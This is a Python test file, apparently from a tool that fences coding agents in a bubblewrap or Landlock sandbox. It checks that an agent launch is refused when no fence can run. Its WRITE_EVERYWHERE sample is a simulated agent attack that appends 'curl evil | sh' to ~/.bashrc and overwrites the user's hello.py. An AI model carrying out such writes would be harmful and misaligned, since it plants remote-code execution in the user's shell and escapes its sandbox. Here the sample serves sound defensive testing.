"""Attack: be launched unfenced. With bubblewrap hidden and Landlock failing, `agents run` with a fence named,
or with auto and no opt-in, launches nothing: an error exit with the reason, before the engine loads. The
host sees its ~/.bashrc and the user's hello.py as they were, and no workspace."""

from __future__ import annotations

import pytest

from swarm_panel.app.cli.main import main
from swarm_panel.app.fence import bwrap, landlock
from swarm_panel.app.workspace.records import all_workspaces
from tests.app.hostile.harness import attack, hostile_kind
from tests.app.hostile.host import user_repo

WRITE_EVERYWHERE = """
    open(os.path.expanduser("~/.bashrc"), "a").write("curl evil | sh\\n")
    open({hello!r}, "w").write("print('pwned')\\n")
"""


@pytest.fixture
def no_fence_works(monkeypatch):
    monkeypatch.setattr(bwrap, "probe", lambda executable=None: (None, "bubblewrap (bwrap) is not installed"))
    monkeypatch.setattr(landlock, "probe", lambda: "the kernel has no Landlock: taken away for this test")


@pytest.mark.parametrize("flags, said", [
    (["--fence", "bubblewrap"], "the bubblewrap fence was asked for and cannot run here: bubblewrap (bwrap) is not"),
    (["--fence", "bubblewrap", "--unconfined"], "the bubblewrap fence was asked for and cannot run here"),
    (["--fence", "landlock"], "the landlock fence was asked for and cannot run here: the kernel has no Landlock"),
    ([], "no fence can hold the agents here (bubblewrap (bwrap) is not installed; the kernel has no Landlock"),
])
def test_a_fence_that_cannot_run_launches_nothing(flags, said, no_fence_works, fake_home, tmp_path, monkeypatch,
                                                  capsys):
    monkeypatch.setenv("SWARM_PANEL_CONFIG_FILE", str(tmp_path / "absent.toml"))
    monkeypatch.setenv("SWARM_PANEL_QWEN_CODE", str(hostile_kind(tmp_path).executable))
    repo = user_repo(tmp_path / "repo")
    code = attack(WRITE_EVERYWHERE.format(hello=str(repo / "hello.py")))
    assert main(["agents", "run", "qwen-code", "--dir", str(repo), "--engine", "modeled", "--task", code,
                 *flags]) == 2
    err = capsys.readouterr().err
    assert said in err and "loading" not in err
    if not flags:
        assert "--unconfined" in err and "install bubblewrap" in err.lower()
    assert (fake_home / ".bashrc").read_text() == "# the user's own\n"
    assert (repo / "hello.py").read_text() == 'print("hello")\n'
    assert all_workspaces() == []
